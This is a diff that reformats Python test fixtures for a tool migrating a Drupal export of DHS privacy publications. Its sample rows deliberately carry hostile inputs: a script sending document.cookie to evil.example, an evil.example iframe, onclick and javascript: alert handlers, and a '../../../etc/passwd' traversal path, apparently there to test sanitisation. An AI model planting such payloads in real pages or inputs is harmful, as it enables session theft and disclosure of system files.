@@ -59,41 +59,91 @@ unknown:
 """
 
 ROWS = [
-    {"Nid": "101", "Title": "DHS/ICE/PIA-049 ICE Parole &amp; Law Enforcement Programs Unit",
-     "Post date": "Mon, 10/01/2018 - 12:00", "Updated": "Mon, 02/11/2019 - 09:15",
-     "Component": "U.S. Immigration and Customs Enforcement", "Publication type": "PIA",
-     "Topics": "Privacy|Immigration", "Summary": "The Parole and Law Enforcement Programs Unit owns three systems.",
-     "Body": "<h1>Overview</h1><p>The unit\u2019s systems are described below.</p>"
-             "<script>document.location='https://evil.example/'+document.cookie</script>"
-             "<h4>Systems</h4><table><tr><td>System</td><td>Purpose</td></tr><tr><td>PLEPU</td><td>Cases</td></tr></table>"
-             "<p>See the <a href=\"/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf\">full assessment</a> "
-             "and the <a href=\"/publication/cbp-body-worn-cameras\">CBP fact sheet</a>.</p>"
-             "<iframe src=\"https://evil.example/frame\"></iframe>",
-     "Files": "/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf",
-     "Path": "/publication/dhs-ice-pia-049"},
-    {"Nid": "102", "Title": "CBP Body&amp;#039;s Worn Cameras", "Post date": "Tue, 11/06/2018 - 09:30",
-     "Updated": "", "Component": "Customs & Border Protection", "Publication type": "Fact sheet",
-     "Topics": "Border Security", "Summary": "",
-     "Body": "<p>U.S. Customs and Border Protection \u201cbody-worn cameras\u201d record encounters at ports of entry. "
-             "The program started in 2018.</p><p onclick=\"alert(1)\">Read <a href=\"javascript:alert(2)\">this</a>.</p>",
-     "Files": "", "Path": "/publication/cbp-body-worn-cameras"},
-    {"Nid": "103", "Title": "Annual Privacy Report", "Post date": "Wed, 01/15/2020 - 08:00", "Updated": "",
-     "Component": "U.S. Immigration and Customs Enforcement", "Publication type": "Report", "Topics": "Privacy",
-     "Summary": "The 2019 annual privacy report.", "Body": "<p>Annual report for 2019.</p>",
-     "Files": "/sites/default/files/2020-01/annual%20report%202019.pdf|/sites/default/files/2020-01/missing-appendix.pdf",
-     "Path": "/publication/annual-privacy-report"},
-    {"Nid": "104", "Title": "Annual Privacy Report", "Post date": "01/14/2021", "Updated": "",
-     "Component": "U.S. Immigration and Customs Enforcement", "Publication type": "Report", "Topics": "",
-     "Summary": "The 2020 annual privacy report.", "Body": "<p>Annual report for 2020.</p>", "Files": "",
-     "Path": "/publication/annual-privacy-report-2020"},
-    {"Nid": "105", "Title": "Testimony of the Director", "Post date": "Thu, 03/04/2021 - 10:00", "Updated": "",
-     "Component": "U.S. Immigration and Customs Enforcement", "Publication type": "Testimony",
-     "Topics": "Immigration", "Summary": "Testimony before the House Committee on Homeland Security.",
-     "Body": "<p>Chairman, Ranking Member, thank you.</p>", "Files": "/sites/default/files/../../../etc/passwd",
-     "Path": "/publication/testimony-director"},
+    {
+        "Nid": "101",
+        "Title": "DHS/ICE/PIA-049 ICE Parole &amp; Law Enforcement Programs Unit",
+        "Post date": "Mon, 10/01/2018 - 12:00",
+        "Updated": "Mon, 02/11/2019 - 09:15",
+        "Component": "U.S. Immigration and Customs Enforcement",
+        "Publication type": "PIA",
+        "Topics": "Privacy|Immigration",
+        "Summary": "The Parole and Law Enforcement Programs Unit owns three systems.",
+        "Body": "<h1>Overview</h1><p>The unit\u2019s systems are described below.</p>"
+        "<script>document.location='https://evil.example/'+document.cookie</script>"
+        "<h4>Systems</h4><table><tr><td>System</td><td>Purpose</td></tr><tr><td>PLEPU</td><td>Cases</td></tr></table>"
+        '<p>See the <a href="/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf">full assessment</a> '
+        'and the <a href="/publication/cbp-body-worn-cameras">CBP fact sheet</a>.</p>'
+        '<iframe src="https://evil.example/frame"></iframe>',
+        "Files": "/sites/default/files/publications/privacy-pia-ice-049-october2018.pdf",
+        "Path": "/publication/dhs-ice-pia-049",
+    },
+    {
+        "Nid": "102",
+        "Title": "CBP Body&amp;#039;s Worn Cameras",
+        "Post date": "Tue, 11/06/2018 - 09:30",
+        "Updated": "",
+        "Component": "Customs & Border Protection",
+        "Publication type": "Fact sheet",
+        "Topics": "Border Security",
+        "Summary": "",
+        "Body": "<p>U.S. Customs and Border Protection \u201cbody-worn cameras\u201d record encounters at ports of entry. "
+        'The program started in 2018.</p><p onclick="alert(1)">Read <a href="javascript:alert(2)">this</a>.</p>',
+        "Files": "",
+        "Path": "/publication/cbp-body-worn-cameras",
+    },
+    {
+        "Nid": "103",
+        "Title": "Annual Privacy Report",
+        "Post date": "Wed, 01/15/2020 - 08:00",
+        "Updated": "",
+        "Component": "U.S. Immigration and Customs Enforcement",
+        "Publication type": "Report",
+        "Topics": "Privacy",
+        "Summary": "The 2019 annual privacy report.",
+        "Body": "<p>Annual report for 2019.</p>",
+        "Files": "/sites/default/files/2020-01/annual%20report%202019.pdf|/sites/default/files/2020-01/missing-appendix.pdf",
+        "Path": "/publication/annual-privacy-report",
+    },
+    {
+        "Nid": "104",
+        "Title": "Annual Privacy Report",
+        "Post date": "01/14/2021",
+        "Updated": "",
+        "Component": "U.S. Immigration and Customs Enforcement",
+        "Publication type": "Report",
+        "Topics": "",
+        "Summary": "The 2020 annual privacy report.",
+        "Body": "<p>Annual report for 2020.</p>",
+        "Files": "",
+        "Path": "/publication/annual-privacy-report-2020",
+    },
+    {
+        "Nid": "105",
+        "Title": "Testimony of the Director",
+        "Post date": "Thu, 03/04/2021 - 10:00",
+        "Updated": "",
+        "Component": "U.S. Immigration and Customs Enforcement",
+        "Publication type": "Testimony",
+        "Topics": "Immigration",
+        "Summary": "Testimony before the House Committee on Homeland Security.",
+        "Body": "<p>Chairman, Ranking Member, thank you.</p>",
+        "Files": "/sites/default/files/../../../etc/passwd",
+        "Path": "/publication/testimony-director",
+    },
 ]
-COLUMNS = ["Nid", "Title", "Post date", "Updated", "Component", "Publication type", "Topics", "Summary", "Body",
-           "Files", "Path"]
+COLUMNS = [
+    "Nid",
+    "Title",
+    "Post date",
+    "Updated",
+    "Component",
+    "Publication type",
+    "Topics",
+    "Summary",
+    "Body",
+    "Files",
+    "Path",
+]
 
 
 def drupal_csv(rows: list[dict[str, str]] | None = None) -> bytes:
@@ -107,8 +157,13 @@ def drupal_csv(rows: list[dict[str, str]] | None = None) -> bytes:
 
 def files_mirror(root: Path) -> Path:
     """The old site's files folder: the PDFs the export names, and a symlink that leaves it."""
-    for relative in ("publications/privacy-pia-ice-049-october2018.pdf", "2020-01/annual report 2019.pdf",
-                     "2021-05/ice-annual.pdf", "feeds/cbp-report.pdf", "pages/PIA_ICE_050.PDF"):
+    for relative in (
+        "publications/privacy-pia-ice-049-october2018.pdf",
+        "2020-01/annual report 2019.pdf",
+        "2021-05/ice-annual.pdf",
+        "feeds/cbp-report.pdf",
+        "pages/PIA_ICE_050.PDF",
+    ):
         path = root / relative
         path.parent.mkdir(parents=True, exist_ok=True)
         # Real, accessible PDFs: the build reads every attachment and checks it for Section 508.
@@ -140,18 +195,39 @@ unknown:
 
 def drupal_json() -> bytes:
     nodes = [
-        {"node": {"nid": 201, "title": "DHS/ICE/PIA-050 Student &amp; Exchange Visitor Program",
-                  "created": "1538352000", "field_summary": "SEVP collects information on students.",
-                  "body": "<p>The Student and Exchange Visitor Program (SEVP) &mdash; a program of ICE.</p>",
-                  "field_component": "ICE", "field_type": "Privacy Impact Assessment",
-                  "field_topics": ["Privacy", "Unknown Topic"],
-                  "field_file": [{"url": "https://www.dhs.gov/sites/default/files/2021-05/ice-annual.pdf",
-                                  "description": "SEVP PIA (PDF)"}],
-                  "path": "https://www.dhs.gov/publication/dhs-ice-pia-050"}},
-        {"node": {"nid": 202, "title": "CBP Trade Fact Sheet", "created": "October 1, 2019",
-                  "field_summary": "", "body": "<p>Trade facts.</p><p>More facts about trade and the border.</p>",
-                  "field_component": "CBP", "field_type": "fact-sheet", "field_topics": [],
-                  "field_file": [], "path": "/publication/cbp-trade"}},
+        {
+            "node": {
+                "nid": 201,
+                "title": "DHS/ICE/PIA-050 Student &amp; Exchange Visitor Program",
+                "created": "1538352000",
+                "field_summary": "SEVP collects information on students.",
+                "body": "<p>The Student and Exchange Visitor Program (SEVP) &mdash; a program of ICE.</p>",
+                "field_component": "ICE",
+                "field_type": "Privacy Impact Assessment",
+                "field_topics": ["Privacy", "Unknown Topic"],
+                "field_file": [
+                    {
+                        "url": "https://www.dhs.gov/sites/default/files/2021-05/ice-annual.pdf",
+                        "description": "SEVP PIA (PDF)",
+                    }
+                ],
+                "path": "https://www.dhs.gov/publication/dhs-ice-pia-050",
+            }
+        },
+        {
+            "node": {
+                "nid": 202,
+                "title": "CBP Trade Fact Sheet",
+                "created": "October 1, 2019",
+                "field_summary": "",
+                "body": "<p>Trade facts.</p><p>More facts about trade and the border.</p>",
+                "field_component": "CBP",
+                "field_type": "fact-sheet",
+                "field_topics": [],
+                "field_file": [],
+                "path": "/publication/cbp-trade",
+            }
+        },
     ]
     return json.dumps({"nodes": nodes}, indent=2).encode("utf-8")
 
@@ -268,19 +344,36 @@ PAGE = """<!DOCTYPE html>
 
 def saved_pages(root: Path) -> Path:
     pages = [
-        ("dhs-ice-pia-050-sevis", "DHS/ICE/PIA-050 SEVIS &amp; Students", "2018-11-01T17:00:00Z", "November 1, 2018",
-         "SEVIS tracks students and exchange visitors.",
-         ("<p>SEVIS is the system of record.</p><h3>Background</h3><p>Since 2003.</p>"
-          "<img src=\"/sites/default/files/images/sevis-map.png\" alt=\"\">"),
-         '<span class="file"><a href="/sites/default/files/pages/PIA_ICE_050.PDF">DHS/ICE/PIA-050 (PDF)</a></span>'),
-        ("dhs-ice-pia-051", "DHS/ICE/PIA-051 Case Management", "2019-01-10T15:00:00Z", "January 10, 2019",
-         "Case management for investigations.",
-         "<p>Links to the <a href=\"dhs-ice-pia-050-sevis\">SEVIS assessment</a>.</p>", ""),
+        (
+            "dhs-ice-pia-050-sevis",
+            "DHS/ICE/PIA-050 SEVIS &amp; Students",
+            "2018-11-01T17:00:00Z",
+            "November 1, 2018",
+            "SEVIS tracks students and exchange visitors.",
+            (
+                "<p>SEVIS is the system of record.</p><h3>Background</h3><p>Since 2003.</p>"
+                '<img src="/sites/default/files/images/sevis-map.png" alt="">'
+            ),
+            '<span class="file"><a href="/sites/default/files/pages/PIA_ICE_050.PDF">DHS/ICE/PIA-050 (PDF)</a></span>',
+        ),
+        (
+            "dhs-ice-pia-051",
+            "DHS/ICE/PIA-051 Case Management",
+            "2019-01-10T15:00:00Z",
+            "January 10, 2019",
+            "Case management for investigations.",
+            '<p>Links to the <a href="dhs-ice-pia-050-sevis">SEVIS assessment</a>.</p>',
+            "",
+        ),
     ]
     root.mkdir(parents=True, exist_ok=True)
     for slug, title, datetime, shown, summary, body, files in pages:
-        (root / f"{slug}.html").write_text(PAGE.format(slug=slug, title=title, datetime=datetime, shown_date=shown,
-                                                       summary=summary, body=body, files=files), "utf-8")
+        (root / f"{slug}.html").write_text(
+            PAGE.format(
+                slug=slug, title=title, datetime=datetime, shown_date=shown, summary=summary, body=body, files=files
+            ),
+            "utf-8",
+        )
     (root / "robots.txt").write_text("User-agent: *\n")
     return root
 
@@ -290,17 +383,28 @@ def large_csv(count: int) -> bytes:
     rows = []
     for number in range(count):
         year = 2000 + number % 25
-        rows.append({
-            "Nid": str(10_000 + number), "Title": f"DHS/ICE/PIA-{number:05d} Program &amp; System {number}",
-            "Post date": f"Mon, {number % 12 + 1:02d}/{number % 28 + 1:02d}/{year} - 12:00", "Updated": "",
-            "Component": "U.S. Immigration and Customs Enforcement" if number % 2 else "Customs & Border Protection",
-            "Publication type": "PIA" if number % 3 else "Fact sheet", "Topics": "Privacy|Immigration",
-            "Summary": "" if number % 5 == 0 else f"Summary of publication {number}.",
-            "Body": "".join(f"<p>Paragraph {p} of publication {number}: the system collects information "
-                            f"about people &amp; programs, and the <strong>assessment</strong> explains why.</p>"
-                            for p in range(6)) + "<h2>Authority</h2><ul><li>6 U.S.C. 142</li><li>5 U.S.C. 552a</li></ul>",
-            "Files": "", "Path": f"/publication/dhs-ice-pia-{number:05d}",
-        })
+        rows.append(
+            {
+                "Nid": str(10_000 + number),
+                "Title": f"DHS/ICE/PIA-{number:05d} Program &amp; System {number}",
+                "Post date": f"Mon, {number % 12 + 1:02d}/{number % 28 + 1:02d}/{year} - 12:00",
+                "Updated": "",
+                "Component": "U.S. Immigration and Customs Enforcement"
+                if number % 2
+                else "Customs & Border Protection",
+                "Publication type": "PIA" if number % 3 else "Fact sheet",
+                "Topics": "Privacy|Immigration",
+                "Summary": "" if number % 5 == 0 else f"Summary of publication {number}.",
+                "Body": "".join(
+                    f"<p>Paragraph {p} of publication {number}: the system collects information "
+                    f"about people &amp; programs, and the <strong>assessment</strong> explains why.</p>"
+                    for p in range(6)
+                )
+                + "<h2>Authority</h2><ul><li>6 U.S.C. 142</li><li>5 U.S.C. 552a</li></ul>",
+                "Files": "",
+                "Path": f"/publication/dhs-ice-pia-{number:05d}",
+            }
+        )
     return drupal_csv(rows)
 
 
